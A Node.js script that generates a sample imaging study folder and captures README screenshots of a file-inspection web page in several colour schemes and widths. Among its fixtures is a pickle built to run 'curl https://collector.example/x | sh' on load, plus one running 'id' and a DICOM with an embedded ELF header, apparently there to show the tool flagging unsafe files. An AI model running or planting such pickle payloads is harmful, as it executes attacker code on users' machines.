// The pictures of the README: the page with a small study on it, light and dark, wide and narrow.
//
//   node screenshots.mjs FOLDER

import { mkdir, writeFile } from "node:fs/promises";
import { join, resolve } from "node:path";
import { openBrowser, Page } from "./browser.mjs";
import { dicom, elf, gzip, nifti, picklesNumbers, picklesSystem, samples, zip } from "./samples.mjs";
import { serve } from "./site.mjs";

const out = resolve(process.argv[2] ?? "pictures");
const site = await serve();
const folder = await samples();

const study = {
  "study/T1.nii.gz": gzip(nifti({ dimensions: [40, 40, 30] })),
  "study/series/IM0001.dcm": dicom({ pixels: 4096 }),
  "study/series/IM0002.dcm": dicom({ preamble: elf(), pixels: 4096 }),
  "study/models/segmentation.pkl": picklesSystem("curl https://collector.example/x | sh"),
  "study/models/labels.pkl": picklesNumbers(),
  "study/models/bundle.zip": zip({ "README.txt": "Two models\n".repeat(20), "weights/best.pkl": picklesSystem("id"), "volume.nii": nifti() }),
  "study/cut short.nii": nifti({ dimensions: [20, 20, 20] }).subarray(0, 3000),
  "study/notes.txt": "Subject 17, second visit.\n",
};

const pictures = {
  "light-wide": { scheme: "light", width: 1280, height: 1500, open: "study/series/IM0002.dcm" },
  "dark-wide": { scheme: "dark", width: 1280, height: 1500, open: "study/models/bundle.zip" },
  "light-narrow": { scheme: "light", width: 360, height: 1400, open: "study/series/IM0002.dcm" },
  "dark-narrow": { scheme: "dark", width: 360, height: 1400 },
  "start": { scheme: "light", width: 1280, height: 860, empty: true },
};

try {
  await mkdir(out, { recursive: true });
  const paths = [];
  for (const [name, bytes] of Object.entries(study)) paths.push(await folder.put(name, bytes));
  for (const [name, { scheme, width, height, open, empty }] of Object.entries(pictures)) {
    const browser = await openBrowser({ size: [1280, 1000] });
    try {
      await browser.tools("Emulation.setEmulatedMedia", { features: [{ name: "prefers-color-scheme", value: scheme }, { name: "prefers-reduced-motion", value: "reduce" }] });
      await browser.tools("Emulation.setDeviceMetricsOverride", { width, height, deviceScaleFactor: width < 500 ? 2 : 1, mobile: width < 500 });
      const page = await new Page(browser, site.address).open();
      if (!empty) {
        await page.give(join(folder.folder, "study"), "folder");
        await page.quiet(paths.length);
        if (open) await page.openRow(open);
        await new Promise((done) => setTimeout(done, 600));
        await page.run("root.querySelector(arguments[0]).scrollIntoView({ block: 'start' }); scrollBy(0, -16);", ".summary");
        await page.driver.executeScript("document.activeElement?.blur(); document.querySelector('just-data').shadowRoot.activeElement?.blur()");
      }
      await new Promise((done) => setTimeout(done, 300));
      const { data } = await browser.tools("Page.captureScreenshot", { format: "png", clip: undefined });
      await writeFile(join(out, `${name}.png`), data, "base64");
      console.log(`  ${join(out, `${name}.png`)}`);
    } finally {
      await browser.close();
    }
  }
} finally {
  await site.close();
  await folder.remove();
}
